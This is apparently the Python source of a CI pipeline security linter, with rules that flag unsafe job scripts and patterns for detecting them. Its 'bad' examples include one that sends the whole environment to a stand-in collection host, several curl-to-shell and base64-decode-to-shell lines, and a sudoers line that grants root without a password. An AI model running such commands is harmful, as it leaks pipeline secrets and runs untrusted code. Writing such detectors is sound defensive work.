"""Rules on the scripts of jobs, whichever system runs them.

What is fetched, decoded and run, and which verification is off, is asked of the rules on RUN instructions, so that
both stages judge a command alike; what a job adds is who chooses the text, and what a log shows.
"""

import re
from collections.abc import Iterator
from functools import lru_cache

import msgspec

from gate.ci.definitions import lines_with
from gate.ci.model import JobScript
from gate.ci.rule import rule
from gate.ci.shell_steps import command_hit, commands_of, evidence_at, hits_of, hits_of_commands, step_of, written
from gate.ci.user_text import FREE_TEXT, SIGNS, user_text_in
from gate.core.lazy_regex import lazy_regex
from gate.dockerfile.addresses import is_local
from gate.dockerfile.commands import SHELLS
from gate.dockerfile.downloaded import unverified
from gate.dockerfile.flow import INTERPRETER
from gate.dockerfile.rules.downloads import download_piped_to_interpreter, encoded_command, plain_download
from gate.dockerfile.rules.permissions import world_writable
from gate.dockerfile.rules.verification import verification_off
from gate.dockerfile.step import Command
from gate.dockerfile.syntax import Heredoc
from gate.dockerfile.text import holds_any
from gate.dockerfile.trusted_ways import is_protected
from gate.model import Severity
from gate.rules import Hit, RuleScope

JOBS = RuleScope(JobScript)
_HOST_KEYS = lazy_regex(r"\bStrictHostKeyChecking[ =]+[\"']?(?:no|off)\b", re.IGNORECASE)
_WORD = r"(?:PASSWORDS?|PASSWD|SECRETS?|TOKENS?|API_?KEYS?|PRIVATE_?KEYS?|ACCESS_?KEYS?|CREDENTIALS?)"
_SECRET_SIGNS = ("PASS", "SECRET", "TOKEN", "KEY", "CREDENTIAL")
"""One of them stands in what _WORD finds."""
_ABOUT = r"(?!_(?:COUNT|EST|ESTIMATE|LIMIT|TTL|URL|URI|NAME|FILE|PATH|ID|EXPIRY|TYPE|LENGTH)\b)"
"""Words behind which a name says something about a secret, and holds none."""
_SECRET = rf"(?<!\\)\$\{{?(?:env:)?(?:[A-Za-z0-9]+_)*{_WORD}{_ABOUT}(?:_[A-Z0-9]+)?\}}?(?![A-Za-z0-9_])"
_PRINTED = lazy_regex(rf"\b(?:echo|printf|Write-Host|Write-Output)\b(?![^\n]*[|>])[^\n;&]{{0,160}}?{_SECRET}")
_MASKS = lazy_regex(r"::add-mask::|issecret=true")
"""Commands that tell the runner to hide a value in its log."""
_ENCODED = lazy_regex(
    rf"\b(?:echo|printf)\b[^\n|;&>]{{0,160}}{_SECRET}[^\n|;&>]{{0,40}}\|[ \t]*(?:base64|xxd|rev|od|hexdump)"
    r"(?![^\n]*(?:[|>]|[ \t]-d\b|[ \t]-D\b|--decode|[ \t]-r\b))[^\n)`]*\Z"
)
_ENVIRONMENT = lazy_regex(
    r"(?:^|[;&|]|\bthen|\bdo)[ \t]*(?:printenv|env|export -p|Get-ChildItem +(?:-Path +)?Env:|gci +env:|dir +env:)"
    r"[ \t]*(?:$|[;&]|\|[ \t]*sort\b(?![^\n]*>))|\bcat[ \t]+/proc/(?:self|1)/environ\b"
)
_PRIVILEGED = lazy_regex(r"\b(?:docker|podman|nerdctl)\b[^\n;&|]{0,300}?[ \t]--privileged(?!=false)\b")
_SOCKET = lazy_regex(
    r"(?:-v|--volume|--mount)[ =][^\n;&|]{0,100}?(?:/var)?/run/(?:docker|containerd/containerd)\.sock\b"
)
_OFF_BY_ANOTHER_RULE = ("StrictHostKeyChecking", "UserKnownHostsFile", "stricthostkeychecking")
_FETCHING = ("curl", "wget", "aria2c", "http", "urlopen", "iwr", "irm", "lynx")
_VERIFYING = (
    "curl",
    "insecure",
    "no-check",
    "erify",
    "VERIFY",
    "trusted",
    "strict-ssl",
    "unauthenticated",
    "gpg",
    "untrusted",
)
_MORE_VERIFYING = ("http.", "INSECURE", "UNAUTHORIZED", "plain-http", "SUMDB", "SUMCHECK", "ignore-cert", "disable-tls")
_DECODING = ("base64", "xxd", "openssl", "base32", "\\x", "\\0", "rev", "-enc", "b64")
_ADDRESS = lazy_regex(r"\b(?:https?|ftp)://[^\s\"'<>|;)]{1,2000}", re.IGNORECASE)
_TRACED_SECRET = lazy_regex(rf"(?<!cat )(?<!< ){_SECRET}")
"""Behind `cat` and `<` the variable is the name of a file, and the trace shows that."""
_LOGINS = {
    "docker": "login",
    "podman": "login",
    "buildah": "login",
    "skopeo": "login",
    "crane": "auth",
    "oras": "login",
}
"""Programs that log in at a registry, and the word of it; `helm registry login` is another."""
_PASSWORD_OPTION = lazy_regex(r"(?:-p|--password)(?:=.*)?|-p[\"'$].*")
_SHARED_LOGINS = frozenset({"sshpass", "mysql", "mysqldump", "mariadb", "lftp", "smbclient"})
_OWN_FILE = lazy_regex(r"(?P<before>\bgh[ \t]+api\b[^|;]{0,800}/contents/[^|;]{0,800}\|[ \t\\\n]*)base64\b")
"""A file of a repository, which GitHub's API hands out in base64: nothing is hidden."""
_LOGIN_SIGNS = ("login", "auth", "sshpass", "mysql", "mariadb", "lftp", "smbclient")
"""One of them is in each script that logs in; most scripts with a `-p` make folders."""
_OPEN_MODE = lazy_regex(r"\b[0-7]{2,3}[2367]\b|[+=][rwxXst]{0,5}w|\bumask\b")
"""What each script has that lets others write, as octal digits or by letters."""
_TOKEN_IN_ADDRESS = lazy_regex(rf"https?://[^\s\"'@/]{{0,100}}{_SECRET}@", re.IGNORECASE)
_TRACES = lazy_regex(r"(?m)^[ \t]*set[ \t]+(?:-[a-wyz]*x[a-z]*|-o[ \t]+xtrace)\b")
_TRACES_NOT = lazy_regex(r"(?m)^[ \t]*set[ \t]+(?:\+[a-z]*x[a-z]*|\+o[ \t]+xtrace)\b")
_SCANNERS = frozenset(
    {
        *("bandit", "brakeman", "checkov", "clair-scanner", "codeql", "cosign", "dependency-check", "detect-secrets"),
        *(
            "gate",
            "gitleaks",
            "gosec",
            "govulncheck",
            "grype",
            "hadolint",
            "horusec",
            "kics",
            "osv-scanner",
            "pip-audit",
        ),
        *("safety", "semgrep", "snyk", "tfsec", "terrascan", "trivy", "trufflehog", "zizmor"),
    }
)
"""Programs that look for weaknesses, and whose status is the verdict."""
_AUDITS = frozenset({"npm", "yarn", "pnpm", "cargo", "composer", "bundle"})
_SENDERS = frozenset({"curl", "wget", "nc", "ncat", "socat", "http", "https"})
_PRINTS_ENVIRONMENT = frozenset({"env", "printenv"})
_UPLOADED_ENVIRONMENT = lazy_regex(r"\$\([ \t]*(?:env|printenv)\b|`(?:env|printenv)\b")
_BUILD_ARGUMENT = lazy_regex(
    rf"(?:--build-arg|--opt)(?:[ =]|[ ]build-arg:)[\"']?(?:build-arg:)?\w{{1,80}}=[\"']?{_SECRET}"
)
_ROOT_FOR_ALL = lazy_regex(r"NOPASSWD:[ \t]*ALL\b[^\n;&]{0,80}(?:>|\btee\b|sudoers)", re.IGNORECASE)
_OPTIONAL_READERS = frozenset({"[", "[[", "case", "echo", "export", "printf", "test", "local", "declare"})
"""Commands that a variable without quotes gives no option to."""
_SSH_WITH_VALUE = frozenset(f"-{letter}" for letter in "BbcDEeFIiJLlmOopQRSWw")
_NAMED_HOST = lazy_regex(
    r"what (?:\d{1,3}(?:\.\d{1,3}){3}|[\w-]+(?:\.[\w-]+)*\.[a-z]{2,})(?::\d+)? sends|packages from"
)
"""A host with a domain: one without is a service of the job."""
_IGNORES = lazy_regex(r"[^\n;&|]{0,500}?(?:\\\n[^\n;&|]{0,500}?){0,20}(?P<ignored>\|\|[ \t]*(?:true|:|exit 0|echo\b))")


@rule(
    "GC001",
    Severity.HIGH,
    "Downloaded script is run unseen",
    looks_at=JOBS,
    why="Anyone who controls the server, or the account behind it, runs a program with the job's token and secrets. "
    "Worth no stop over https from a publisher's own host, whose program the job runs anyway.",
    mend="Download to a file, check its digest, then run it; or pin the tool as a package or image.",
    references=("CWE-494",),
    bad="curl -sSL http://tools.example/install | sh",
    good="curl -sSLo install https://tools.example/install && sha256sum --check install.sha256 && sh install",
)
def downloaded_script_is_run(job: JobScript) -> Iterator[Hit]:
    for hit in hits_of(download_piped_to_interpreter, job, *_FETCHING):
        near = evidence_at(job, hit.line or job.line)
        is_open = _is_open_way(near) or (not _ADDRESS.search(near) and _is_open_way(job.script))
        yield msgspec.structs.replace(hit, severity=Severity.HIGH if is_open else Severity.MEDIUM)


def _is_open_way(text: str) -> bool:
    """True if a text names an address that others than its publisher can answer for: no TLS, a number, a paste.

    What a variable holds is not known, and is no reason to stop a change.
    """
    addresses = (found for found in _ADDRESS.findall(text) if "$" not in found and not is_local(found))
    return any(not is_protected(address) for address in addresses)


@rule(
    "GC002",
    Severity.MEDIUM,
    "Verification of a download or server is switched off",
    looks_at=JOBS,
    why="Anyone on the way to the server can replace what the job downloads, and read what it sends.",
    mend="Remove the option. For a server with its own authority, add that authority's certificate.",
    references=("CWE-295",),
    bad="curl -k https://packages.example/tool.tgz -o tool.tgz",
    good="curl --cacert ca.pem https://packages.example/tool.tgz -o tool.tgz",
)
def verification_is_off(job: JobScript) -> Iterator[Hit]:
    for hit in hits_of(verification_off, job, *_VERIFYING, *_MORE_VERIFYING):
        if not holds_any(hit.message, _OFF_BY_ANOTHER_RULE) and "GIT_SSH_COMMAND" not in hit.message:
            yield msgspec.structs.replace(hit, severity=Severity.MEDIUM)


@rule(
    "GC003",
    Severity.LOW,
    "Whole environment is printed",
    looks_at=JOBS,
    why="The environment holds the job's secrets. A log hides only values that it knows, unchanged.",
    mend="Print the variables that you need, by name.",
    references=("CWE-532",),
    bad="printenv | sort",
    good="printenv GOFLAGS",
)
def environment_is_printed(job: JobScript) -> Iterator[Hit]:
    for line, found in lines_with(job, lambda line: _found(_ENVIRONMENT, line), "env", "Env:", "export -p"):
        yield _hit(job, line, f"Job {job.name} prints its whole environment: {found.strip(' ;&')}", found)


@rule(
    "GC004",
    Severity.MEDIUM,
    "Secret is printed",
    looks_at=JOBS,
    why="Logs are kept, copied and often public. A secret in a log has to be replaced.",
    mend="Remove the line; to see whether a variable is set, print its length or test it with `-n`.",
    references=("CWE-532",),
    bad="echo deploying with $DEPLOY_TOKEN",
    good='test -n "$DEPLOY_TOKEN"',
)
def secret_is_printed(job: JobScript) -> Iterator[Hit]:
    printed = lines_with(job, lambda line: "" if _MASKS.search(line) else _found(_PRINTED, line), *_SECRET_SIGNS)
    for line, found in printed:
        yield _hit(job, line, f"Job {job.name} prints a variable that is named like a secret: {found}", found)


@rule(
    "GC005",
    Severity.HIGH,
    "Secret is printed in a form that the log does not hide",
    looks_at=JOBS,
    why="Systems hide a secret's value in logs. Encoded it is another text, so that everyone who reads the log has it.",
    mend="Remove the line, and replace the secret if the job has run.",
    references=("CWE-532",),
    bad="echo $DEPLOY_TOKEN | base64",
    good="echo $DEPLOY_TOKEN | base64 -d > key.pem",
)
def secret_is_printed_encoded(job: JobScript) -> Iterator[Hit]:
    for line, found in lines_with(job, lambda line: _found(_ENCODED, line), *_SECRET_SIGNS):
        yield _hit(job, line, f"Job {job.name} prints an encoded secret: {found}", found)


@rule(
    "GC006",
    Severity.MEDIUM,
    "Text of others is read as code",
    looks_at=JOBS,
    why="Branch names, titles and messages may hold `$(command)`. The inner shell, here or on another host, runs it.",
    mend='Pass the text as an argument: `sh -c \'build "$1"\' - "$BRANCH"`; for ssh, check it by a pattern first.',
    references=("CWE-78",),
    bad='ssh deploy@shop.example "git checkout $BITBUCKET_BRANCH"',
    good='git checkout "$BITBUCKET_BRANCH"',
)
def text_is_read_again(job: JobScript) -> Iterator[Hit]:
    for command, names in texts_read_as_code(job):
        reader = command.program
        yield command_hit(job, command, f"{reader} reads {', '.join(names)} as code")


@lru_cache(maxsize=64)  # a rule on attack paths asks for it too
def texts_read_as_code(job: JobScript) -> tuple[tuple[Command, tuple[str, ...]], ...]:
    """Return the commands that read text of others as code, each with the variables that hold it."""
    if not holds_any(job.script, SIGNS):
        return ()
    found: dict[str, tuple[Command, tuple[str, ...]]] = {}
    for command in commands_of(job):
        names = tuple(dict.fromkeys(name for code in _code_given(job, command) for name in user_text_in(code)))
        if names:
            found.setdefault(f"{command.syntax.text.position(command.words[0].start)[0]} {names}", (command, names))
    return tuple(found.values())


def _code_given(job: JobScript, command: Command) -> Iterator[str]:
    """Yield what a command is given as code, as it is written: by `eval`, `sh -c`, `ssh`, `python -c`, heredocs."""
    words = list(written(command))
    program = command.program
    if program == "eval":
        yield from words[1:]
    elif program in ("ssh", "sshpass") and "ssh" in [word.text for word in command.words]:
        yield from _remote_command(command, words)
    elif program in ("awk", "gawk", "mawk"):
        yield from words[1:2]
    yield from _inline_code(command, words)
    if program in SHELLS or program == "ssh" or INTERPRETER.fullmatch(program):
        yield from _fed(job, command)


def _inline_code(command: Command, words: list[str]) -> Iterator[str]:
    """Yield what stands behind `sh -c`, `python -c` or `perl -e`, whichever program runs that."""
    texts = [word.text for word in command.words]
    for place, text in enumerate(texts[:-2]):
        name = text.rpartition("/")[2]
        option = texts[place + 1]
        is_script = name in SHELLS and option.startswith("-") and option.endswith("c")
        if is_script or (option in ("-c", "-e") and INTERPRETER.fullmatch(name)):
            yield words[place + 2]


def _remote_command(command: Command, words: list[str]) -> Iterator[str]:
    """Yield what ssh has the other host run: all behind the host."""
    texts = [word.text for word in command.words]
    place = texts.index("ssh") + 1
    while place < len(texts) and texts[place].startswith("-"):
        place += 2 if texts[place] in _SSH_WITH_VALUE else 1
    yield from words[place + 1 :]


def _fed(job: JobScript, command: Command) -> Iterator[str]:
    """Yield the bodies of heredocs and here-strings that become a program's input, if the shell puts variables in."""
    content = command.syntax.text.content
    for redirect in command.syntax.redirects:
        if redirect.operator == "<<<":
            yield content[redirect.target.start : redirect.target.end]
        elif redirect.operator in ("<<", "<<-"):
            heredocs = step_of(job).instruction.heredocs
            yield from (one.body.content.replace("'", " ") for one in heredocs if _is_body(one, redirect.target.text))


def _is_body(heredoc: Heredoc, name: str) -> bool:
    return heredoc.is_expanded and heredoc.name == name


@rule(
    "GC007",
    Severity.MEDIUM,
    "Container with the rights of its host",
    looks_at=JOBS,
    why="A privileged container, or one with the runtime's socket, is root on the machine that runs other jobs too.",
    mend="Remove `--privileged` and the socket; to build images take a builder that runs without root.",
    references=("CWE-250",),
    bad="docker run --privileged tools.example/build:1.2.3",
    good="docker run --cap-add NET_ADMIN tools.example/build:1.2.3",
)
def container_has_the_rights_of_its_host(job: JobScript) -> Iterator[Hit]:
    signs = ("--privileged", ".sock")
    for line, found in lines_with(job, lambda line: _found(_PRIVILEGED, line) or _found(_SOCKET, line), *signs):
        yield _hit(job, line, f"Job {job.name} starts a container with the rights of its host: {found}", found)


@rule(
    "GC008",
    Severity.LOW,
    "Host key is not checked",
    looks_at=JOBS,
    why="Anyone on the way to the host can answer in its place, and receives what is copied there.",
    mend="Put the host's key into known_hosts, as a file of the repository or a variable.",
    references=("CWE-295",),
    bad="ssh -o StrictHostKeyChecking=no deploy@shop.example ./release",
    good="ssh -o UserKnownHostsFile=ci/known_hosts deploy@shop.example ./release",
)
def host_key_is_not_checked(job: JobScript) -> Iterator[Hit]:
    for line, found in lines_with(job, lambda line: _found(_HOST_KEYS, line), "ostk", "ostK", "OSTK"):
        yield _hit(job, line, f"Job {job.name} does not check the host's key: {found}", found)


@rule(
    "GC009",
    Severity.LOW,
    "Host key is fetched when it is needed",
    looks_at=JOBS,
    why="ssh-keyscan trusts whatever answers, so that the check of the key that follows says nothing.",
    mend="Keep the host's key as a file of the repository, or in a variable that the job writes to known_hosts.",
    references=("CWE-322",),
    bad="ssh-keyscan shop.example >> ~/.ssh/known_hosts",
    good="cp ci/known_hosts ~/.ssh/known_hosts",
)
def host_key_is_fetched(job: JobScript) -> Iterator[Hit]:
    for command in commands_of(job) if "ssh-keyscan" in job.script else ():
        if command.program == "ssh-keyscan":
            hosts = " ".join(word.text for word in command.operands("-p", "-t", "-T")) or "what answers"
            yield command_hit(job, command, f"ssh-keyscan trusts whatever answers for {hosts}")


@rule(
    "GC010",
    Severity.HIGH,
    "Encoded command is run",
    looks_at=JOBS,
    why="The encoding hides the command from readers and from scanners.",
    mend="Write the command in plain text, or keep it as a script of the repository.",
    references=("CWE-506",),
    bad="echo bHMgLwo= | base64 -d | sh",
    good="echo bHMgLwo= | base64 -d > page.txt",
)
def encoded_command_is_run(job: JobScript) -> Iterator[Hit]:
    script = _OWN_FILE.sub(r"\g<before>cat", job.script) if "/contents/" in job.script else job.script
    yield from hits_of(encoded_command, msgspec.structs.replace(job, script=script), *_DECODING)


@rule(
    "GC011",
    Severity.MEDIUM,
    "Download without TLS",
    looks_at=JOBS,
    why="Anyone on the network path can read and change what is fetched.",
    mend="Use https, and compare a digest.",
    references=("CWE-319",),
    bad="wget http://packages.example/tool.tgz",
    good="wget https://packages.example/tool.tgz",
)
def download_without_tls(job: JobScript) -> Iterator[Hit]:
    for hit in hits_of(plain_download, job, "http://", "ftp://", "git://"):
        if _NAMED_HOST.search(hit.message):
            yield hit


@rule(
    "GC012",
    Severity.LOW,
    "Password on a command line",
    looks_at=JOBS,
    why="Every process on the machine sees command lines, and `set -x` writes them into the log.",
    mend='Give it by standard input: echo "$PASSWORD" | docker login --username ci --password-stdin.',
    references=("CWE-214",),
    bad="docker login --username ci --password $REGISTRY_PASSWORD registry.example",
    good='echo "$REGISTRY_PASSWORD" | docker login --username ci --password-stdin registry.example',
)
def password_on_command_line(job: JobScript) -> Iterator[Hit]:
    may_name = "$" in job.script and "-p" in job.script and holds_any(job.script, _LOGIN_SIGNS)
    for command in commands_of(job) if may_name else ():
        arguments = command.arguments
        logs_in = _LOGINS.get(command.program) in arguments[:2] or arguments[:2] == ("registry", "login")
        if not logs_in and command.program not in _SHARED_LOGINS:
            continue
        option = next((word for word in arguments if _PASSWORD_OPTION.fullmatch(word)), None)
        if option and "-stdin" not in option and any("$" in word for word in arguments):
            name = option.partition("=")[0] if option.startswith("--") else "-p"
            yield command_hit(job, command, f"{command.program} is given a password by {name}")


@rule(
    "GC013",
    Severity.MEDIUM,
    "Commands with secrets are traced",
    looks_at=JOBS,
    why="`set -x` writes every command into the log with the values of its variables. A log hides only values that it "
    "knows, unchanged.",
    mend="Put `set +x` before the commands that use the secret.",
    references=("CWE-532",),
    bad='set -x\ncurl --header "Authorization: $API_TOKEN" https://api.example/deploy',
    good='set -x\nmake\nset +x\ncurl --header "Authorization: $API_TOKEN" https://api.example/deploy',
)
def commands_are_traced(job: JobScript) -> Iterator[Hit]:
    begins = _TRACES.search(job.script) if "set -" in job.script else None
    if begins is None:
        return
    ends = _TRACES_NOT.search(job.script, begins.end())
    secret = _TRACED_SECRET.search(job.script, begins.end(), ends.start() if ends else len(job.script))
    if secret:
        line = job.line_of(job.script.count("\n", 0, begins.start() + len(begins[0]) - len(begins[0].lstrip())))
        yield _hit(
            job, line, f"Job {job.name} traces commands that use {secret[0]}", f"{begins[0].strip()} {secret[0]}"
        )


@rule(
    "GC014",
    Severity.LOW,
    "World-writable files",
    looks_at=JOBS,
    why="Any process on the machine, another job's too where runners are shared, can replace what the job runs.",
    mend="Give the mode that is needed: chmod +x FILE.",
    references=("CWE-732",),
    bad="chmod -R 777 build",
    good="chmod -R u+rwX build",
)
def files_are_world_writable(job: JobScript) -> Iterator[Hit]:
    signs = ("chmod", "install", "mkdir", "umask") if _OPEN_MODE.search(job.script) else ()
    for hit in hits_of_commands(world_writable, job, *signs):
        yield msgspec.structs.replace(hit, severity=Severity.LOW)


@rule(
    "GC015",
    Severity.LOW,
    "Token in the address of a repository",
    looks_at=JOBS,
    why="git writes the address into .git/config, error messages and logs, where artifacts and later steps find it.",
    mend="Give the token by a credential helper or by `git -c http.extraHeader`.",
    references=("CWE-522",),
    bad="git push https://bot:$PUSH_TOKEN@git.example/shop.git HEAD:main",
    good='git -c http.extraHeader="$PUSH_HEADER" push https://git.example/shop.git HEAD:main',
)
def token_in_address(job: JobScript) -> Iterator[Hit]:
    for command in commands_of(job) if "@" in job.script and "git" in job.script else ():
        if command.program == "git":
            found = next(filter(None, map(_TOKEN_IN_ADDRESS.search, command.arguments)), None)
            if found and "CI_JOB_TOKEN" not in found[0]:
                yield command_hit(job, command, f"git is given a token in the address {found[0]}…")


@rule(
    "GC016",
    Severity.LOW,
    "Text of others without quotes",
    looks_at=JOBS,
    why="The shell cuts the text into words: a title such as `x --upload-pack=…` becomes options of the command.",
    mend='Put the variable into double quotes, behind `--` where it may begin with a dash: git log -- "$TITLE".',
    references=("CWE-88",),
    bad="notify --title $CI_MERGE_REQUEST_TITLE",
    good='notify --title "$CI_MERGE_REQUEST_TITLE"',
)
def text_without_quotes(job: JobScript) -> Iterator[Hit]:
    for command in commands_of(job) if holds_any(job.script, SIGNS) else ():
        if command.program in _OPTIONAL_READERS or not command.words:
            continue
        names = [name for word in written(command) for name in user_text_in(word, FREE_TEXT, is_quoted=False)]
        if names:
            yield command_hit(job, command, f"{command.program} is given ${names[0]} without quotes")


@rule(
    "GC017",
    Severity.MEDIUM,
    "Scanner cannot fail the job",
    looks_at=JOBS,
    why="What the scanner finds stops no change: its status is thrown away.",
    mend="Remove `|| true`. To accept known findings, name them in the scanner's own list.",
    references=("CWE-754",),
    bad="trivy image --exit-code 1 shop:1 || true",
    good="trivy image --exit-code 1 shop:1",
)
def scanner_cannot_fail(job: JobScript) -> Iterator[Hit]:
    for command in commands_of(job) if "||" in job.script or "exit-zero" in job.script else ():
        if is_scanner(command) and (ignored := _is_ignored(command)):
            yield command_hit(job, command, f"the status of {command.program} is thrown away by {ignored}")


def is_scanner(command: Command) -> bool:
    """True for a command that looks for weaknesses."""
    if command.program in _AUDITS:
        return "audit" in command.arguments[:2]
    reads = not {"version", "--version", "--help", "login", "install", "upload"}.intersection(command.arguments)
    return command.program in _SCANNERS and reads


def _is_ignored(command: Command) -> str:
    """Return what throws a command's status away; empty if it counts."""
    found = _IGNORES.match(command.syntax.text.content, command.words[-1].end)
    if found:
        return found["ignored"]
    return next((word for word in command.arguments if word in ("--exit-zero", "--exit-code=0", "--soft-fail")), "")


@rule(
    "GC018",
    Severity.LOW,
    "Downloaded program is used unverified",
    looks_at=JOBS,
    why="Anyone who controls the server, or the account behind it, decides what the job runs.",
    mend="Compare its SHA-256 digest with one in the definition; or take an image or package that is pinned.",
    references=("CWE-494",),
    bad="curl -LO https://tools.example/tool && chmod +x tool && ./tool",
    good="curl -LO https://tools.example/tool && sha256sum --check tool.sha256 && chmod +x tool && ./tool",
)
def downloaded_program_is_used(job: JobScript) -> Iterator[Hit]:
    for one in unverified(step_of(job)) if holds_any(job.script, _FETCHING) else ():
        what = one.name or "what it fetches"
        yield command_hit(job, one.command, f"{one.command.program} fetches {what}, which is used unverified")


@rule(
    "GC019",
    Severity.HIGH,
    "Environment is sent to another host",
    looks_at=JOBS,
    why="The environment holds every secret of the job. This is how stolen secrets leave a pipeline.",
    mend="Remove the command, and replace the secrets if it has run.",
    references=("CWE-200",),
    bad="env | base64 | curl --data @- https://collect.example",
    good="env | sort > variables.txt",
)
def environment_is_sent(job: JobScript) -> Iterator[Hit]:
    if not holds_any(job.script, ("env",)) or not holds_any(job.script, tuple(_SENDERS)):
        return
    commands = commands_of(job)
    printers = {_pipeline(one): one for one in commands if one.program in _PRINTS_ENVIRONMENT and _prints_all(one)}
    for command in commands:
        if command.program not in _SENDERS or not command.words:
            continue
        is_piped = (
            _pipeline(command) in printers
            and command.syntax.spot.place > printers[_pipeline(command)].syntax.spot.place
        )
        if is_piped or any(map(_UPLOADED_ENVIRONMENT.search, written(command))):
            yield command_hit(job, command, f"{command.program} sends the job's environment")


def _prints_all(command: Command) -> bool:
    return all(word.text in ("-0", "--null") for word in command.words[1:])


def _pipeline(command: Command) -> tuple[int, int]:
    return id(command.syntax.text), command.syntax.spot.pipeline


@rule(
    "GC020",
    Severity.MEDIUM,
    "Secret becomes a part of an image",
    looks_at=JOBS,
    why="Build arguments are written into the image's history, where everyone who can pull it reads them.",
    mend="Mount it for one step: --secret id=token,env=TOKEN, and RUN --mount=type=secret,id=token.",
    references=("CWE-538",),
    bad="docker build --build-arg NPM_TOKEN=$NPM_TOKEN .",
    good="docker build --secret id=npm,env=NPM_TOKEN .",
)
def secret_as_build_argument(job: JobScript) -> Iterator[Hit]:
    for line, found in lines_with(job, lambda line: _found(_BUILD_ARGUMENT, line), "--build-arg", "--opt"):
        yield _hit(job, line, f"Job {job.name} gives a build a secret that stays in the image: {found}", found)


@rule(
    "GC021",
    Severity.MEDIUM,
    "Account may become root without a password",
    looks_at=JOBS,
    why="Whatever runs later in the job, code of packages and tests too, is root; on a runner without containers it is "
    "root of the machine.",
    mend="Allow the one command that is needed, or prepare the image so that none is.",
    references=("CWE-250",),
    bad="echo 'ci ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
    good="echo 'ci ALL=(root) NOPASSWD: /usr/bin/systemctl reload shop' >> /etc/sudoers.d/ci",
)
def account_becomes_root(job: JobScript) -> Iterator[Hit]:
    for line, found in lines_with(job, lambda line: _found(_ROOT_FOR_ALL, line), "NOPASSWD", "nopasswd"):
        yield _hit(job, line, f"Job {job.name} lets an account become root without a password", found)


def _found(pattern: re.Pattern[str], line: str) -> str:
    found = pattern.search(line)
    return found[0].strip()[:200] if found else ""


def _hit(job: JobScript, line: int, message: str, found: str) -> Hit:
    return Hit(message=message, path=job.path, line=line, evidence=(found,))
